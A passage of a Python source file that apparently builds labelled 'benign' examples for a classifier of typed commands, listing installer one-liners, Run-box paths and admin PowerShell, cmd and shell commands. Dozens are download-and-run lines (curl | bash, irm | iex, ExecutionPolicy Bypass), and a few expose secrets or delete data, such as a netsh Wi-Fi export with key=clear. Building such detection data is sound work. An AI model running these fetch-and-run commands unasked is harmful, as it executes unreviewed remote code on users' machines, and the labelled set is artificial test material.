        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/r2pc/tor-bridge/main/setup.sh)"',
    ),
    (
        "https://github.com/netbrain/zwift",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/netbrain/zwift/master/bin/install.sh)"',
    ),
    (
        "https://github.com/ILikeHostingServices/Screencap-Documentation-Tool",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/ILikeHostingServices/Screencap-Documentation-Tool/HEAD/install.sh)"',
    ),
    (
        "https://github.com/agentpm-dev/cli",
        'PREFIX=/usr/local sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/agentpm-dev/cli/main/scripts/install-latest.sh)"',
    ),
    (
        "https://github.com/liang0222/bbr-adaptive",
        "bash <(curl -Ls https://raw.githubusercontent.com/liang0222/bbr-adaptive/main/bbr-adaptive.sh)",
    ),
    (
        "https://github.com/rm1dev/SyncPage",
        "bash <(curl -Ls https://raw.githubusercontent.com/rm1dev/SyncPage/main/install.sh)",
    ),
    (
        "https://github.com/zzh106/-Alist-LXC-",
        "bash <(curl -Ls https://raw.githubusercontent.com/zzh106/-Alist-LXC-/main/install.sh)",
    ),
    (
        "https://github.com/pplulee/appleid_auto",
        "bash <(curl -Ls https://raw.githubusercontent.com/pplulee/appleid_auto/main/backend/install_unblocker.sh)",
    ),
    (
        "https://github.com/moshiroi/anki-auto",
        "Invoke-RestMethod https://github.com/moshiroi/anki-auto/releases/latest/download/install.ps1 | Invoke-Expression",
    ),
    (
        "https://github.com/kmanisk/dotfiles",
        'powershell -ExecutionPolicy Bypass -Command "Invoke-RestMethod https://github.com/kmanisk/dotfiles/raw/master/AppData/Local/installer/setup.ps1 -OutFile $env:TEMP\\setup.ps1; & $env:TEMP\\setup.ps1"',
    ),
    (
        "https://github.com/fprochazka/glab-mr-fullstate",
        "pipx install git+https://github.com/fprochazka/glab-mr-fullstate.git",
    ),
    (
        "https://github.com/h-wata/kioku-mesh",
        "uv tool install git+https://github.com/h-wata/kioku-mesh.git",
    ),
    (
        "https://github.com/oorestisime/tokengauge",
        "curl -fsSL https://github.com/oorestisime/tokengauge/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/balerdis/pegasus-harness",
        "curl -fsSL https://github.com/balerdis/pegasus-harness/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/avyayv/personal-automation-cli",
        "curl -fsSL https://github.com/avyayv/personal-automation-cli/releases/latest/download/install.sh | bash -s -- oura",
    ),
    (
        "https://github.com/Kodjaoglanian/qore",
        "irm https://github.com/Kodjaoglanian/qore/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/Din-Studio/canvas-cli",
        "curl -fsSL https://github.com/Din-Studio/canvas-cli/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/dkisser/browser-bridge",
        "curl -fsSL https://github.com/dkisser/browser-bridge/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/gigabyte-software/cortex-cli/releases",
        "curl -fsSL https://github.com/gigabyte-software/cortex-cli/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/huaweicloud/devspace-devbridge",
        "curl -fsSL https://github.com/huaweicloud/devspace-devbridge/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/OUIsolutions/Darwin",
        "curl -L https://github.com/OUIsolutions/Darwin/releases/download/0.020/darwin.out -o darwin && chmod +x darwin && sudo mv darwin /usr/bin",
    ),
    (
        "https://github.com/modelcontextprotocol/registry",
        "curl -L \"https://github.com/modelcontextprotocol/registry/releases/latest/download/mcp-publisher_$(uname -s | tr '[:upper:]' '[:lower:]')_$(uname -m | sed 's/x86_64/amd64/;s/aarch64/arm64/').tar.gz\" | tar xz mcp-publisher && sudo mv mcp-publisher /usr/local/bin/",
    ),
    (
        "https://github.com/latex-lsp/texlab",
        "cargo install --git https://github.com/latex-lsp/texlab.git",
    ),
    ("https://github.com/bufbuild/buf", "go install github.com/bufbuild/buf/cmd/buf@v1.57.2"),
    (
        "https://github.com/Kodjaoglanian/qore",
        "curl -fsSL https://github.com/Kodjaoglanian/qore/releases/latest/download/install.sh | bash",
    ),
    ("https://github.com/marin-ai-tech/sdlc", "npm install -g github:marin-ai-tech/sdlc#release"),
    (
        "https://github.com/casonadams/zshai",
        "git clone https://github.com/casonadams/zshai.git ${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/zshai",
    ),
    (
        "https://github.com/academic-door/github-multiagent-contributor",
        "bash <(curl -fsSL https://raw.githubusercontent.com/academic-door/github-multiagent-contributor/main/scripts/fetch-kit.sh)",
    ),
    (
        "https://github.com/wonderwhy-er/DesktopCommanderMCP",
        "bash <(curl -fsSL https://raw.githubusercontent.com/wonderwhy-er/DesktopCommanderMCP/refs/heads/main/install-docker.sh)",
    ),
    (
        "https://bureau.regionallyfamous.com/",
        "bash <(curl -fsSL https://bureau.regionallyfamous.com/install)",
    ),
    (
        "https://github.com/AgentEA-AUS/ai-vault-install",
        "bash <(curl -fsSL https://raw.githubusercontent.com/AgentEA-AUS/ai-vault-install/main/install.sh) --uninstall",
    ),
    (
        "https://github.com/ozbilgic/install-ruby-rails-on-termux-ubuntu-debian",
        "bash <(curl -fsSL https://raw.githubusercontent.com/ozbilgic/install-ruby-rails-on-termux-ubuntu-debian/main/install-ruby-rails.sh)",
    ),
    (
        "https://github.com/05allan1213/trellis-team-kit",
        "mkdir my-project && cd my-project && git init\nbash <(curl -fsSL https://raw.githubusercontent.com/05allan1213/trellis-team-kit/main/bootstrap/init.sh) 你的名字",
    ),
    (
        "https://github.com/UniM0cha/gilteun-system",
        "bash <(curl -fsSL https://raw.githubusercontent.com/UniM0cha/gilteun-system/main/setup.sh)",
    ),
    (
        "https://github.com/zhengwuji/shuoyue-xray",
        "bash <(curl -fsSL https://raw.githubusercontent.com/zhengwuji/shuoyue-xray/main/install.sh)",
    ),
    ("https://github.com/schpet/linear-cli", "deno install -A -g -n linear jsr:@schpet/linear-cli"),
    ("https://jsr.io/@zuke/cli", "deno install -A -g -n zuke jsr:@zuke/cli"),
    (
        "https://github.com/buriedsignals/scoutpost-os",
        "deno install -A -g -n scout https://raw.githubusercontent.com/buriedsignals/scoutpost-os/master/cli/scout.ts && scout --version",
    ),
    ("https://github.com/tsirysndr/netbsd-up", "deno install -A -g -r -f jsr:@tsiry/netbsd-up"),
    ("https://jsr.io/@denext/denext", "deno install -A -g -n denext jsr:@denext/denext/cli"),
    (
        "https://github.com/gh-tui-tools/gh-rerun-when-ready",
        "gh extension install gh-tui-tools/gh-rerun-when-ready",
    ),
    ("https://github.com/dlvhdr/gh-enhance", "gh extension install dlvhdr/gh-enhance"),
    ("https://github.com/github/gh-stack", "gh extension install github/gh-stack"),
    ("https://github.com/github/gh-aw", "gh extension install github/gh-aw"),
    (
        "https://github.com/robinhood/thorn",
        "pip install https://github.com/robinhood/thorn/zipball/master#egg=thorn",
    ),
    (
        "https://github.com/roboflow/rf-detr",
        "pip install https://github.com/roboflow/rf-detr/archive/refs/heads/develop.zip",
    ),
    (
        "https://github.com/SybilGambleyyu/docfence/releases",
        "python -m pip install https://github.com/SybilGambleyyu/docfence/releases/download/v0.48.0/docfence-0.48.0-py3-none-any.whl",
    ),
    (
        "https://github.com/BDI-OFFICIAL/concord",
        "pip install https://github.com/BDI-OFFICIAL/concord/archive/refs/heads/main.zip",
    ),
    (
        "https://github.com/umami-hep/librep",
        "pip install https://github.com/umami-hep/librep/archive/master.tar.gz",
    ),
    (
        "https://github.com/jllllll/bitsandbytes-windows-webui/releases",
        "pip install https://github.com/jllllll/bitsandbytes-windows-webui/releases/download/wheels/bitsandbytes-0.39.1-py3-none-win_amd64.whl",
    ),
    ("https://github.com/radiosilence/koan", "mise use -g github:radiosilence/koan@latest"),
    ("https://github.com/tasuku43/gion", "mise use -g github:tasuku43/gion@v0.1.0"),
    ("https://github.com/chinmina/kms-import", "mise use -g github:chinmina/kms-import"),
    ("https://github.com/LalitMaganti/buildprof", "mise use -g github:LalitMaganti/buildprof"),
    ("https://github.com/KNN-07/ReActor", "mise use -g github:KNN-07/ReActor"),
    ("https://github.com/KNN-07/ReActor", "irm https://reactor.norman.id.vn/install.ps1 | iex"),
    (
        "https://github.com/radiosilence/codeowners-lsp",
        "mise use -g github:radiosilence/codeowners-lsp@latest",
    ),
    ("https://github.com/seenark/sshx-rs", "mise use -g github:seenark/sshx-rs"),
    ("https://github.com/k1LoW/mo", "mise use -g github:k1LoW/mo@latest"),
    ("https://github.com/poindexter12/baude", "mise use -g github:poindexter12/baude"),
]


def build_benign() -> list[Benign]:
    out: list[Benign] = []
    for page, cmd in INSTALLERS:
        out.append((OWN, TERM, page, cmd))

    # Installers quoted by tutorials and team wikis (someone else's page, well-known vendors)
    add(
        out,
        "installer-tutorial",
        TERM,
        [
            "https://www.digitalocean.com/community/tutorials/how-to-install-node-js-on-ubuntu-24-04",
            "https://dev.to/kaitlyn_m/setting-up-a-mac-for-python-in-2026-4k2a",
            "https://wiki.teamcity-guild.org/onboarding/laptop",
            "https://medium.com/@oskar.lind/my-wsl2-setup-for-rust-development-9a1c",
            "https://www.freecodecamp.org/news/how-to-install-rust/",
        ],
        lines(r"""
curl -fsSL https://deb.nodesource.com/setup_22.x -o nodesource_setup.sh && sudo -E bash nodesource_setup.sh && sudo apt-get install -y nodejs
brew install pyenv && pyenv install 3.13.1 && pyenv global 3.13.1
winget install --id Git.Git -e --source winget; winget install --id Microsoft.PowerShell --source winget
curl -LsSf https://astral.sh/uv/0.6.3/install.sh | sh && uv python install 3.12
curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash && nvm install --lts
sudo apt-get install -y ca-certificates curl && sudo install -m 0755 -d /etc/apt/keyrings && sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc
Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; Invoke-RestMethod -Uri https://get.scoop.sh -OutFile install-scoop.ps1; .\install-scoop.ps1
sudo snap install code --classic && code --install-extension ms-python.python
curl -LsSf https://astral.sh/uv/install.sh | sh -s -- --no-modify-path
"""),
    )

    # Admins' own company pages: a download-and-run from the same company's host, each with a page
    # of that company (corrected after the first run: the pages had been given in rotation, so
    # seven lines came from another company's page; README, "Blind-21")
    for page, cmd in [
        (
            "https://it.fabrikam.com/kb/onboarding-windows",
            "irm https://it.fabrikam.com/tools/onboarding.ps1 | iex",
        ),
        (
            "https://helpdesk.northwindtraders.com/articles/vpn-client",
            'Invoke-WebRequest https://helpdesk.northwindtraders.com/downloads/vpn/NWT-VPN-5.2.msi -OutFile $env:TEMP\\NWT-VPN.msi; Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\NWT-VPN.msi /qb" -Wait',
        ),
        (
            "https://intranet.contoso.com/it/tools/printer-setup",
            "powershell -ExecutionPolicy Bypass -File \\\\fs01.corp.contoso.com\\it$\\printers\\Add-FloorPrinters.ps1 -Floor 3",
        ),
        (
            "https://docs.tailspintoys.io/platform/dev-env",
            "curl -fsSL https://docs.tailspintoys.io/platform/bootstrap.sh | bash -s -- --team payments",
        ),
        (
            "https://servicedesk.adventure-works.com/self-service/laptop",
            "& ([scriptblock]::Create((irm https://servicedesk.adventure-works.com/scripts/Reset-OutlookProfile.ps1))) -KeepSignatures",
        ),
        (
            "https://it.fabrikam.com/kb/onboarding-windows",
            "iwr -useb https://it.fabrikam.com/tools/Install-FabrikamCert.ps1 | iex",
        ),
        (
            "https://intranet.contoso.com/it/tools/printer-setup",
            'Start-Process "\\\\fs01.corp.contoso.com\\Software\\Teams\\MSTeams-x64.msix"',
        ),
        (
            "https://docs.tailspintoys.io/platform/dev-env",
            "curl -sSfL https://docs.tailspintoys.io/platform/tt-cli/install.sh | sh -s -- -b ~/.local/bin v3.4.1",
        ),
        (
            "https://helpdesk.northwindtraders.com/articles/vpn-client",
            "msiexec /i https://helpdesk.northwindtraders.com/downloads/agent/NWT-Agent.msi /qn TENANT=nwt-prod",
        ),
        (
            "https://servicedesk.adventure-works.com/self-service/laptop",
            'iex "& { $(irm https://servicedesk.adventure-works.com/scripts/Get-LaptopHealth.ps1) } -Report"',
        ),
        (
            "https://docs.tailspintoys.io/platform/dev-env",
            "wget -qO- https://docs.tailspintoys.io/platform/k8s/kubeconfig-helper.sh | bash",
        ),
        (
            "https://it.fabrikam.com/kb/onboarding-windows",
            "Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://it.fabrikam.com/tools/Map-Drives.ps1).Content",
        ),
        (
            "https://docs.tailspintoys.io/platform/dev-env",
            "bash <(curl -fsSL https://docs.tailspintoys.io/platform/macos-setup.sh) --with-homebrew",
        ),
        (
            "https://intranet.contoso.com/it/tools/printer-setup",
            "Invoke-RestMethod https://intranet.contoso.com/it/tools/Set-TimeZoneFromSite.ps1 | Invoke-Expression",
        ),
        (
            "https://helpdesk.northwindtraders.com/articles/vpn-client",
            "curl -fsSL https://helpdesk.northwindtraders.com/linux/enroll.sh -o enroll.sh && sudo bash enroll.sh --site OSL",
        ),
    ]:
        out.append(("company-installer", TERM, page, cmd))

    # How-to pages for the Run box and Explorer's address bar: names, paths, shell: and ms-settings:
    run_pages = [
        "https://support.microsoft.com/en-us/windows/open-device-manager-a7f2db46-faaf-24f0-8b7b-9e4a74bc6a65",
        "https://www.howtogeek.com/run-commands-every-windows-user-should-know/",
        "https://learn.microsoft.com/en-us/windows/client-management/client-tools/administrative-tools-in-windows",
        "https://www.tenforums.com/tutorials/3123-clsid-key-guid-shortcuts-list-windows-10-a.html",
        "https://www.windowscentral.com/software-apps/windows-11/how-to-open-settings-pages-directly",
        "https://answers.microsoft.com/en-us/windows/forum/all/where-is-the-startup-folder/8d2e",
    ]
    add(
        out,
        "run-box-howto",
        RUN,
        run_pages,
        lines(r"""
ms-settings:regionformatting
ms-settings:easeofaccess-narrator
ms-settings:typing
ms-settings:otherusers
ms-settings:taskbar
ms-settings:personalization-background
ms-settings:lockscreen
ms-settings:backup
ms-settings:gaming-gamebar
ms-settings:emailandaccounts
ms-settings:sync
ms-settings:speech
ms-settings:mobile-devices
ms-settings:usb
ms-settings:autoplay
ms-settings:pen
ms-settings:keyboard
ms-settings:colors
ms-settings:themes
ms-settings:fonts
onedrive
chrome
shell:Local AppData
shell:My Music
shell:CommonDownloads
shell:Templates
shell:UsersFilesFolder
"""),
    )
    add(
        out,
        "explorer-bar-howto",
        EXP,
        run_pages,
        lines(r"""
shell:Camera Roll
shell:Screenshots
shell:AppData
shell:Favorites
shell:Public
shell:Common Documents
shell:Start Menu
shell:Programs
%SystemRoot%\System32\LogFiles
D:\Scans\2026
\\fs01\it$\drivers
\\nas01\Projects
\\printsrv01
%USERPROFILE%\OneDrive - Fabrikam\Desktop
%USERPROFILE%\OneDrive - Tailspin Toys\Pictures\Screenshots
%APPDATA%\Microsoft\Teams\Backgrounds\Uploads
"""),
    )
    # Typed by the user (no page): the Run box and Explorer's bar
    add(
        out,
        "run-box-typed",
        RUN,
        [None],
        lines(r"""
https://myaccount.microsoft.com
https://aka.ms/mfasetup
https://intranet.contoso.com
https://portal.azure.com
https://admin.microsoft.com
https://outlook.office.com
https://servicedesk.adventure-works.com
https://mysignins.microsoft.com/security-info
https://helpdesk.northwindtraders.com
https://it.fabrikam.com/kb
https://docs.tailspintoys.io
https://contoso.sharepoint.com/sites/IT
https://intranet.contoso.com/it/tools
ms-settings:multitasking
ms-settings:remotedesktop
ms-settings:delivery-optimization
ms-settings:windowsinsider
ms-settings:findmydevice
%LOCALAPPDATA%\Microsoft\Edge\User Data\Default
%LOCALAPPDATA%\Programs\Microsoft VS Code
%LOCALAPPDATA%\Google\Chrome\User Data
"""),
    )
    add(
        out,
        "explorer-bar-typed",
        EXP,
        [None],
        lines(r"""
C:\Windows\SoftwareDistribution\Download
E:\Photos\2026\Summer
\\fs01.corp.contoso.com\HR\Templates
\\nas01\Marketing\Brand\Logos
\\fs02\Finance\Month-end\2026-11
\\printsrv01\OSL-3F-MFP
shell:Administrative Tools
shell:Games
shell:Videos
shell:Music
shell:Contacts
shell:Links
shell:OneDriveDocuments
shell:ProgramFiles
"""),
    )

    # Admin PowerShell (from docs, Q&A, team runbooks)
    ps_pages = [
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-service",
        "https://stackoverflow.com/questions/41847233/powershell-list-installed-programs",
        "https://serverfault.com/questions/1104332/find-locked-ad-account-source",
        "https://wiki.corp-ops.net/runbooks/windows-server",
        "https://learn.microsoft.com/en-us/exchange/recipients-in-exchange-online/manage-user-mailboxes",
        "https://www.reddit.com/r/sysadmin/comments/1b8kq2x/useful_oneliners/",
        "https://github.com/MicrosoftDocs/windowsserverdocs/issues/7741",
    ]
    add(
        out,
        "admin-powershell",
        TERM,
        ps_pages,
        lines(r"""
Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'} | Select Name, DisplayName
Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4740} -MaxEvents 20 | Format-List TimeCreated, Message
Get-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate | Where-Object {$_.LastLogonDate -lt (Get-Date).AddDays(-90)} | Select Name, LastLogonDate
Set-Mailbox -Identity "j.nilsen@contoso.com" -ForwardingSmtpAddress $null -DeliverToMailboxAndForward $false
Get-ChildItem -Path C:\inetpub\logs\LogFiles -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -WhatIf
Get-NetTCPConnection -State Listen | Sort-Object LocalPort | Format-Table LocalAddress, LocalPort, OwningProcess
Get-Volume | Where-Object {$_.SizeRemaining / $_.Size -lt 0.1}
Restart-Service -Name Spooler -Force; Get-Printer | Where-Object PrinterStatus -ne 'Normal'
Install-Module -Name Microsoft.Graph -Scope CurrentUser -Repository PSGallery
Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"; Get-MgUser -Top 10 | Select DisplayName, UserPrincipalName
Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5
Invoke-Command -ComputerName web01, web02 -ScriptBlock { Get-Process w3wp | Select Id, WS, CPU }
New-LocalUser -Name "kiosk" -NoPassword -AccountNeverExpires | Add-LocalGroupMember -Group "Users"
Enable-PSRemoting -Force; Set-Item WSMan:\localhost\Client\TrustedHosts -Value "10.20.0.*" -Force
Get-Acl \\fs01\Finance | Format-List AccessToString
Export-Csv -InputObject (Get-Process) -Path C:\Temp\proc.csv -NoTypeInformation
Get-BitLockerVolume | Select MountPoint, VolumeStatus, ProtectionStatus, EncryptionPercentage
Compress-Archive -Path .\reports\* -DestinationPath .\reports-2026-12.zip -Force
$cred = Get-Credential; New-PSDrive -Name S -PSProvider FileSystem -Root \\fs01\share -Credential $cred -Persist
Get-ScheduledTask | Where-Object {$_.State -eq 'Ready' -and $_.TaskPath -notlike '\Microsoft*'}
Get-Content .\servers.txt | ForEach-Object { [pscustomobject]@{Host=$_; Up=(Test-Connection $_ -Count 1 -Quiet)} }
Add-DnsServerResourceRecordA -Name "intranet" -ZoneName "corp.local" -IPv4Address "10.20.4.15"
Get-DhcpServerv4Lease -ScopeId 10.20.8.0 | Where-Object HostName -like "*print*"
Disable-ADAccount -Identity m.ortega; Move-ADObject -Identity (Get-ADUser m.ortega).DistinguishedName -TargetPath "OU=Leavers,DC=corp,DC=local"
Get-MessageTrace -SenderAddress invoices@vendor-mail.com -StartDate (Get-Date).AddDays(-2) -EndDate (Get-Date)
winget upgrade --all --silent --accept-package-agreements
Get-FileHash .\Setup-2.4.1.exe -Algorithm SHA256
Start-Transcript -Path C:\Temp\migration.log -Append
[Environment]::SetEnvironmentVariable("JAVA_HOME", "C:\Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot", "Machine")
Get-EventLog -LogName System -EntryType Error -Newest 25 | Format-Table TimeGenerated, Source, EventID -AutoSize
Measure-Command { Invoke-WebRequest https://intranet.contoso.com/health -UseBasicParsing } | Select TotalMilliseconds
Get-PnpDevice -Status ERROR | Format-Table FriendlyName, Class, InstanceId
Rename-Computer -NewName "OSL-LT-0421" -Restart
Get-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux
Get-Process | Sort-Object WorkingSet64 -Descending | Select-Object -First 10 Name, @{n='MB';e={[int]($_.WorkingSet64/1MB)}}
Set-TimeZone -Id "W. Europe Standard Time"
Get-SmbShare | Where-Object Name -notlike '*$'
Get-Content C:\Windows\Logs\CBS\CBS.log -Tail 50 -Wait
Remove-Item -Path "$env:LOCALAPPDATA\Microsoft\Teams\Cache\*" -Recurse -Force -ErrorAction SilentlyContinue
Get-AzVM -ResourceGroupName rg-prod-weu | Select Name, @{n='Size';e={$_.HardwareProfile.VmSize}}
Set-ADAccountPassword -Identity a.berg -Reset -NewPassword (Read-Host -AsSecureString "New password")
gpupdate /force; gpresult /r /scope computer
Import-Module ActiveDirectory; Get-ADGroupMember "VPN-Users" -Recursive | Measure-Object
Get-WmiObject -Class Win32_Product -Filter "Name like '%Java%'" | Select Name, Version
New-Item -ItemType SymbolicLink -Path "$HOME\.gitconfig" -Target "$HOME\dotfiles\gitconfig"
Get-ADComputer -Filter 'OperatingSystem -like "*Server 2016*"' -Properties OperatingSystem | Select Name, OperatingSystem
Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select -First 10 DisplayName, TotalItemSize
Set-CalendarProcessing -Identity "Room-Everest" -AutomateProcessing AutoAccept -AllowConflicts $false
Add-MailboxFolderPermission -Identity "ceo@contoso.com:\Calendar" -User "assistant@contoso.com" -AccessRights Editor
Get-Service -Name "Tailspin*" -ComputerName app01, app02 | Format-Table MachineName, Name, Status
Get-ChildItem -Path D:\Shares -Directory | ForEach-Object { [pscustomobject]@{Name=$_.Name; GB=[math]::Round((Get-ChildItem $_.FullName -Recurse -File | Measure-Object Length -Sum).Sum/1GB,2)} }
Get-PhysicalDisk | Select FriendlyName, MediaType, HealthStatus, Size
Get-StoragePool | Get-VirtualDisk | Select FriendlyName, OperationalStatus
Get-ClusterNode | Select Name, State
Get-VM | Where-Object State -eq Running | Select Name, CPUUsage, MemoryAssigned
Checkpoint-VM -Name build-agent-02 -SnapshotName "before-update-2026-12"
Get-IISAppPool | Select Name, State, ManagedRuntimeVersion
Restart-WebAppPool -Name "PaymentsApi"
Get-LocalGroupMember -Group Administrators
Get-Printer -ComputerName printsrv01 | Where-Object Name -like "OSL*"
Get-DnsClientServerAddress -AddressFamily IPv4 | Where-Object ServerAddresses
Set-DnsClientServerAddress -InterfaceAlias "Ethernet" -ServerAddresses 10.20.0.10,10.20.0.11
Get-Content .\users.csv | ConvertFrom-Csv | ForEach-Object { New-ADUser -Name $_.Name -SamAccountName $_.Sam -Path "OU=Staff,DC=corp,DC=local" -WhatIf }
Get-MgUserLicenseDetail -UserId "lena.fischer@tailspintoys.io" | Select SkuPartNumber
Get-UnifiedGroup -Identity "Project Falcon" | Get-UnifiedGroupLinks -LinkType Members
Search-UnifiedAuditLog -StartDate (Get-Date).AddDays(-1) -EndDate (Get-Date) -Operations FileDeleted -ResultSize 100
Get-ComputerInfo -Property OsName, OsVersion, CsModel, BiosSerialNumber
Get-Item HKLM:\SYSTEM\CurrentControlSet\Control\Terminal` Server | Get-ItemProperty -Name fDenyTSConnections
Test-ComputerSecureChannel -Repair -Credential (Get-Credential CORP\admin-lf)
"""),
    )

    # cmd.exe (in a terminal, from docs and forums)
    add(
        out,
        "admin-cmd",
        TERM,
        [
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
            "https://superuser.com/questions/1720334/flush-dns-and-reset-winsock",
            "https://www.tenforums.com/tutorials/2895-run-sfc-command-windows-10-a.html",
            "https://community.spiceworks.com/t/mapped-drives-disconnect-on-reboot/934511",
        ],
        lines(r"""
robocopy D:\Data \\nas01\backup\Data /MIR /Z /R:2 /W:5 /LOG:C:\Temp\robocopy.log
ipconfig /flushdns && netsh winsock reset && netsh int ip reset
bcdedit /enum
whoami /groups
nslookup intranet.contoso.com 10.20.0.10
net user /domain a.berg
icacls D:\Shares\Finance /grant "CORP\Finance-RW:(OI)(CI)M"
certutil -hashfile Setup.exe SHA256
schtasks /query /fo LIST /v | findstr /i "TaskName Next Run"
copy /y \\fs01\it$\templates\Normal.dotm "%APPDATA%\Microsoft\Templates\"
arp -a
route print -4
gpresult /h C:\Temp\gp.html
robocopy \\fs01\Projects\Falcon D:\Falcon-archive /E /COPY:DAT /DCOPY:T /MT:16 /NP /TEE /LOG+:D:\robo-falcon.log
netsh advfirewall firewall add rule name="Allow RDP 3389 from mgmt" dir=in action=allow protocol=TCP localport=3389 remoteip=10.20.0.0/24
net localgroup administrators
net share Scans=D:\Scans /grant:CORP\Scanners,CHANGE
ipconfig /all | findstr /i "IPv4 DNS Gateway"
wmic logicaldisk get caption,freespace,size
pnputil /enum-drivers | findstr /i "Realtek"
driverquery /v /fo csv > C:\Temp\drivers.csv
fsutil volume diskfree C:
vssadmin list shadows /for=C:
cipher /w:D:\Old
takeown /f D:\Shares\Orphaned /r /d y
netsh interface ip set dns "Ethernet" static 10.20.0.10
netsh wlan export profile name="Tailspin-Guest" folder=C:\Temp key=clear
mklink /D C:\Tools\jdk "C:\Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot"
set PATH=%PATH%;C:\Tools\bin
where python
echo %USERDOMAIN%\%USERNAME% on %COMPUTERNAME%
klist purge
quser /server:rds01
logoff 3 /server:rds01
net time \\dc01 /set /y
attrib -h -s D:\Recovered\* /s /d
xcopy "\\fs01\Templates\Letterhead" "%APPDATA%\Microsoft\Templates" /E /I /Y
"""),
    )

    # Shell one-liners (Linux/macOS)
    add(
        out,
        "shell",
        TERM,
        [
            "https://unix.stackexchange.com/questions/125429/tracking-down-where-disk-space-has-gone-on-linux",
            "https://wiki.archlinux.org/title/Systemd/Journal",
            "https://askubuntu.com/questions/1400312/how-to-find-which-process-uses-a-port",
            "https://www.cyberciti.biz/faq/linux-find-largest-file-in-directory-recursively-using-find-du/",
            "https://stackoverflow.com/questions/4210042/how-do-i-exclude-a-directory-when-using-find",
            "https://gist.github.com/ameliavoss/3b8e1f0c2d5a",
            None,
        ],
        lines(r"""
du -xh / --max-depth=2 2>/dev/null | sort -rh | head -20
journalctl -u nginx --since "1 hour ago" --no-pager | tail -50
sudo ss -tulpn | grep :8080
find . -type f -size +500M -exec ls -lh {} \; 2>/dev/null
tar -czvf backup-$(date +%F).tar.gz --exclude='*.log' /etc/nginx
grep -rn "TODO" --include=*.py src/ | wc -l
awk -F, '{sum += $3} END {print sum}' sales-2026-11.csv
sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config && sudo systemctl reload sshd
for f in *.heic; do sips -s format jpeg "$f" --out "${f%.heic}.jpg"; done
openssl s_client -connect mail.contoso.com:443 -servername mail.contoso.com </dev/null 2>/dev/null | openssl x509 -noout -dates
ssh-keygen -t ed25519 -C "mona.berg@fabrikam.com" -f ~/.ssh/id_ed25519_work
ssh -L 5432:db.internal:5432 bastion.example.org -N
scp -r ./dist user@10.0.4.12:/opt/app/
curl -I https://www.wikipedia.org
ps aux --sort=-%mem | head -n 15
chmod -R u+rwX,go-w ~/projects
sudo chown -R $USER:$USER /usr/local/lib/node_modules
history | awk '{print $2}' | sort | uniq -c | sort -rn | head
xargs -a packages.txt sudo apt-get install -y
cat /etc/os-release
uname -a && lscpu | grep "Model name"
free -h && df -h /
sudo systemctl restart docker && systemctl status docker --no-pager
nmcli device wifi list
dig +short TXT _dmarc.contoso.com
dig @1.1.1.1 example.org AAAA +noall +answer
base64 -d <<< "aGVsbG8gd29ybGQK"
echo -n "build-42" | sha256sum
date -u +"%Y-%m-%dT%H:%M:%SZ"
crontab -e
sudo ufw allow 22/tcp && sudo ufw enable
mkdir -p ~/.config/nvim && git clone https://github.com/nvim-lua/kickstart.nvim ~/.config/nvim
ffmpeg -i input.mov -vcodec libx264 -crf 23 -preset slow output.mp4
convert screenshot.png -resize 50% screenshot-small.png
pdftk a.pdf b.pdf cat output merged.pdf
zip -r site.zip public/ -x "*.DS_Store"
nc -zv db01 5432
mtr --report --report-cycles 20 vpn.fabrikam.com
diff <(sort a.txt) <(sort b.txt)
jq '.items[] | select(.status=="failed") | .id' results.json
yq '.spec.template.spec.containers[0].image' deploy.yaml
sudo xattr -r -d com.apple.quarantine /Applications/Inkscape.app
pbpaste | jq . | pbcopy
mdfind "kMDItemFSName == '*.key'" -onlyin ~/Documents
caffeinate -d -t 3600
journalctl -p err -b --no-pager | tail -40
sudo systemctl list-units --failed
find /var/log -name "*.gz" -mtime +30 -delete
grep -E "Failed password|Invalid user" /var/log/auth.log | awk '{print $(NF-3)}' | sort | uniq -c | sort -rn | head
tail -f /var/log/nginx/error.log | grep --line-buffered upstream
sudo lsblk -o NAME,SIZE,FSTYPE,MOUNTPOINT,UUID
sudo growpart /dev/nvme0n1 1 && sudo resize2fs /dev/nvme0n1p1
ls -la --time-style=long-iso ~/Downloads | tail
git -C ~/dotfiles pull && stow -d ~/dotfiles -t ~ zsh git nvim
sudo timedatectl set-timezone Europe/Oslo
hostnamectl set-hostname osl-build-03
cut -d: -f1 /etc/passwd | sort
ssh-copy-id -i ~/.ssh/id_ed25519_work.pub lena@osl-build-03
curl -sS -o /dev/null -w "%{http_code} %{time_total}s\n" https://intranet.contoso.com/health
iostat -xz 2 5
vmstat 1 10
sudo iotop -oPa
sudo dmesg -T | tail -30
mount | column -t | grep nfs
sudo exportfs -ra && showmount -e localhost
openssl req -new -newkey rsa:3072 -nodes -keyout web.key -out web.csr -subj "/CN=web.tailspintoys.io"
openssl x509 -in cert.pem -noout -subject -issuer -enddate
